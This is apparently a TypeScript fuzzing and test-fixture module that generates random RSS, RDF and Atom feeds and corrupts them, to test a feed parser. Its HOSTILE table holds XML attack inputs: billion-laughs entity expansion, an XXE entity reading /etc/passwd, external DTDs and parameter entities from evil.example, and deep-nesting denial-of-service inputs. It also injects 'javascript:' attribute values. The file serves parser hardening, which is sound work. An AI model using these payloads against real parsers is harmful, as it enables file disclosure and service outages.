// Feeds made up by chance, each with what it has to be read as; and what a hostile or broken server makes of one.

/** Numbers from 0 to below 1, the same for a seed (mulberry32). */
export function random(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

/** What is read of one story; what a feed does not have is undefined. */
export interface Told {
  title: string;
  url?: string;
  published?: string;
  excerpt?: string;
  label?: string;
  author?: string;
  image?: string;
}

export interface Made {
  xml: string;
  url: string;
  stories: Told[];
  /** How it is sent: a label of the Encoding standard that Node writes, too. */
  encoding: "utf-8" | "utf-16le" | "latin1";
}

const URL_OF = "https://bao.example/feeds/all.xml";
const TITLES = [
  "Nước lên nhanh",
  "Tides & trams",
  "Mưa < 30 mm, gió > cấp 6",
  'Họ nói "không"',
  "😀 Vui",
  "a]]>b",
  "  Hai  khoảng ",
];
const WORDS = ["Hai đầu cầu đã thảm nhựa xong.", "Two landings close & reopen.", "<p>Một <b>đoạn</b> văn.</p>"];
const DATES = [
  "Tue, 24 Nov 2026 05:55:00 +0700",
  "2026-11-24T05:55:00+07:00",
  "24 Nov 26 05:55 GMT",
  "2026-11-24",
  "hôm qua",
];
const NAMESPACES = {
  dc: "http://purl.org/dc/elements/1.1/",
  content: "http://purl.org/rss/1.0/modules/content/",
  media: "http://search.yahoo.com/mrss/",
  atom: "http://www.w3.org/2005/Atom",
  rss: "http://purl.org/rss/1.0/",
  rdf: "http://www.w3.org/1999/02/22-rdf-syntax-ns#",
};

const escaped = (text: string) =>
  text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;");

/** A feed, in one of the formats there are, written in one of the many ways. */
export function make(seed: number): Made {
  const next = random(seed);
  const pick = <T>(from: readonly T[]): T => from[Math.floor(next() * from.length)] as T;
  const chance = (share = 0.5) => next() < share;
  const encoding = pick(["utf-8", "utf-8", "utf-16le", "latin1"] as const);
  const written = (text: string) => {
    const isSendable = encoding !== "latin1" || /^[\0-\xff]*$/.test(text);
    if (chance(0.4) && isSendable && !text.includes("]]>")) return `<![CDATA[${text}]]>`;
    if (chance(0.2))
      return [...text]
        .map((it) => (/[\p{L}&<>"]/u.test(it) ? `&#${it.codePointAt(0)};` : it))
        .join("")
        .replaceAll("]]>", "]]&gt;");
    return escaped(text);
  };
  // What the encoding has no letter for is written by its number.
  const sendable = (xml: string) =>
    encoding === "latin1" ? xml.replace(/[^\0-\xff]/gu, (it) => `&#${it.codePointAt(0)};`) : xml;
  const format = pick(["rss", "rdf", "atom"] as const);
  const prefix = Object.fromEntries(
    Object.keys(NAMESPACES).map((name) => [name, chance(0.7) ? name : `n${Math.floor(next() * 1e6)}${name}`]),
  ) as Record<keyof typeof NAMESPACES, string>;
  const own = format === "atom" ? "atom" : "rss";
  // Elements of the format's own may have a prefix, too, where they are in a namespace.
  const isPrefixed = format !== "rss" && chance(0.3);
  const of = (name: string) => (isPrefixed ? `${prefix[own]}:${name}` : name);
  const tag = (name: string, inside: string, attributes = "") => `<${name}${attributes}>${inside}</${name}>`;
  const base = chance(0.3) ? "https://cdn.example/a/" : undefined;

  const stories: Told[] = [];
  const items = Array.from({ length: Math.floor(next() * 4) + 1 }, (_, at) => {
    const told: Told = { title: pick(TITLES).trim() };
    const parts = [tag(of("title"), written(told.title), format === "atom" && chance() ? ' type="html"' : "")];
    const isRelative = chance(0.4);
    const path = `tin/${at}?a=1&b=2`;
    told.url = new URL(path, isRelative ? (base ?? URL_OF) : "https://bao.example/").href;
    const address = isRelative ? path : told.url;
    if (format === "atom")
      parts.push(`<${of("link")}${chance() ? ' rel="alternate"' : ""} href="${escaped(address)}"/>`);
    else if (format === "rss" && !isRelative && chance(0.3))
      parts.push(tag("guid", escaped(address), chance() ? ' isPermaLink="true"' : ""));
    else parts.push(tag(of("link"), escaped(address)));
    if (format === "rss" && chance(0.3))
      parts.unshift(tag("guid", `tag:bao.example,2026:${at}`, ' isPermaLink="false"'));
    if (chance(0.7)) {
      told.published = pick(DATES);
      const name =
        format === "atom"
          ? of(pick(["published", "updated"]))
          : chance() && format === "rss"
            ? "pubDate"
            : `${prefix.dc}:date`;
      parts.push(tag(name, told.published));
    }
    if (chance(0.7)) {
      told.excerpt = pick(WORDS);
      const whole = format !== "atom" && chance(0.4);
      parts.push(
        tag(
          whole ? `${prefix.content}:encoded` : of(format === "atom" ? "summary" : "description"),
          written(told.excerpt),
          format === "atom" ? ' type="html"' : "",
        ),
      );
    }
    if (chance()) {
      told.author = "Tổ phóng viên";
      parts.push(
        format === "atom"
          ? tag(of("author"), tag(of("name"), written(told.author)))
          : tag(`${prefix.dc}:creator`, written(told.author)),
      );
    }
    if (chance()) {
      told.label = "Xã hội & đời sống";
      parts.push(
        format === "atom"
          ? `<${of("category")} term="${escaped(told.label)}"/>`
          : tag(of("category"), written(told.label)),
      );
    }
    if (chance()) {
      told.image = `https://anh.example/${at}.jpg?w=1&h=2`;
      const address = escaped(told.image);
      parts.push(
        pick([
          `<${prefix.media}:thumbnail url="${address}"/>`,
          `<${prefix.media}:content medium="image" url="${address}"/>`,
        ]),
      );
      // Names that only look like the story's own.
      parts.push(tag(`${prefix.media}:title`, "Of a picture"), tag(`${prefix.media}:description`, "Of a picture"));
    }
    if (format === "rss" && !told.image && chance(0.3))
      parts.push('<enclosure url="https://anh.example/a.mp3" type="audio/mpeg"/>');
    stories.push(told);
    return tag(of(format === "atom" ? "entry" : "item"), parts.sort(() => next() - 0.5).join(chance() ? "\n  " : ""));
  }).join("\n");

  const declared = Object.entries(NAMESPACES)
    .map(([name, url]) => ` xmlns:${prefix[name as keyof typeof NAMESPACES]}="${url}"`)
    .join("");
  const before = base ? ` xml:base="${base}"` : "";
  const unprefixed = format !== "rss" && !isPrefixed ? ` xmlns="${NAMESPACES[own]}"` : "";
  const head = tag(of("title"), "The paper");
  const inside = {
    rss: () => tag("rss", tag("channel", head + items), ` version="2.0"${declared}${before}`),
    rdf: () => tag(`${prefix.rdf}:RDF`, tag(of("channel"), head) + items, `${unprefixed}${declared}${before}`),
    atom: () => tag(of("feed"), head + items, `${unprefixed}${declared}${before}`),
  }[format]();
  const name = { "utf-8": "UTF-8", "utf-16le": "UTF-16", latin1: "ISO-8859-1" }[encoding];
  const declaration = encoding !== "utf-8" || chance() ? `<?xml version="1.0" encoding="${name}"?>\n` : "";
  const remark = chance(0.2) ? "<!-- <rss> from a plugin -->\n" : "";
  return { xml: declaration + remark + sendable(inside), url: URL_OF, stories, encoding };
}

/** As a server sends it; UTF-16 has a mark at its start. */
export function bytes({ xml, encoding }: Made): Buffer {
  const mark = encoding === "utf-16le" ? "\ufeff" : "";
  return Buffer.from(mark + xml, encoding);
}

/** What becomes of a feed on a bad way, or in bad hands. */
const DAMAGES: ((xml: string, next: () => number) => string)[] = [
  (xml, next) => xml.slice(0, Math.floor(next() * xml.length)),
  (xml, next) => {
    const at = Math.floor(next() * xml.length);
    return xml.slice(0, at) + String.fromCharCode(Math.floor(next() * 0x300)) + xml.slice(at + 1);
  },
  (xml, next) => xml.replace(/<(\w)/g, (it) => (next() < 0.05 ? "<" : it)),
  (xml, next) => xml.replace(/xmlns:?\w*="[^"]*"/g, (it) => (next() < 0.2 ? "" : it)),
  (xml, next) => xml.replace(/="[^"]*"/g, (it) => (next() < 0.1 ? '="javascript:alert(1)"' : it)),
  (xml, next) =>
    xml.replace(/xml:base="[^"]*"/, `xml:base="${["http://[", "::", "javascript:x", "//"][Math.floor(next() * 4)]}"`),
  (xml, next) => xml.replace(/(<\/?)(\w+)/g, (it) => (next() < 0.05 ? `${it}x` : it)),
  (xml) => xml + xml,
  (xml) => `\u0000${xml}`,
];

/** A feed that something happened to, once or several times. */
export function damaged(seed: number): string {
  const next = random(seed ^ 0x5eed);
  let { xml } = make(seed);
  for (let times = Math.floor(next() * 3) + 1; times > 0; times -= 1) {
    const damage = DAMAGES[Math.floor(next() * DAMAGES.length)];
    xml = damage?.(xml, next) ?? xml;
  }
  return xml;
}

const rss = (inside: string, before = "") => `${before}<rss version="2.0"><channel>${inside}</channel></rss>`;
const laughs = Array.from({ length: 25 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join("");
const ITEM = "<item><title>A</title><link>/a</link></item>";

/** What is made to be too much for whoever reads it, and how many stories it has; none where it is refused. */
export const HOSTILE: Record<string, { xml: () => string; stories?: number }> = {
  "a billion laughs": {
    xml: () => rss("<item><title>&l25;</title></item>", `<!DOCTYPE rss [<!ENTITY l0 "ha">${laughs}]>`),
  },
  "an entity behind a comment that looks like a feed": {
    xml: () =>
      rss("<item><title>&x;</title></item>", '<!-- <rss> --><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  },
  "parameter entities": {
    xml: () => rss(ITEM, '<!DOCTYPE rss [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>'),
  },
  "a document type of another server": {
    xml: () => rss(ITEM, '<!DOCTYPE rss SYSTEM "https://evil.example/rss.dtd">'),
    stories: 1,
  },
  "an entity that nobody declared": { xml: () => rss("<item><title>&nbsp;</title></item>") },
  "elements within elements, 100,000 deep": { xml: () => rss("<a>".repeat(1e5) + "</a>".repeat(1e5)) },
  "items within items, 50,000 deep": { xml: () => rss("<item>".repeat(5e4) + "</item>".repeat(5e4)) },
  "50,000 items without anything": { xml: () => rss("<item/>".repeat(5e4)), stories: 5e4 },
  "an item of 100,000 elements": { xml: () => rss(`<item><title>A</title>${"<x/>".repeat(1e5)}</item>`), stories: 1 },
  "an element with 50,000 attributes": {
    xml: () => rss(`<item ${Array.from({ length: 5e4 }, (_, at) => `a${at}=""`).join(" ")}><title>A</title></item>`),
    stories: 1,
  },
  "pictures that never end": {
    xml: () => rss(`<item><title>A</title><description><![CDATA[${"<img ".repeat(3e5)}]]></description></item>`),
    stories: 1,
  },
  "declarations that never end": { xml: () => "<?x ".repeat(3e5) },
  "comments that never end": { xml: () => rss("<!-- ".repeat(3e5)) },
  "CDATA that never ends": { xml: () => rss("<item><title><![CDATA[".repeat(5e4)) },
};
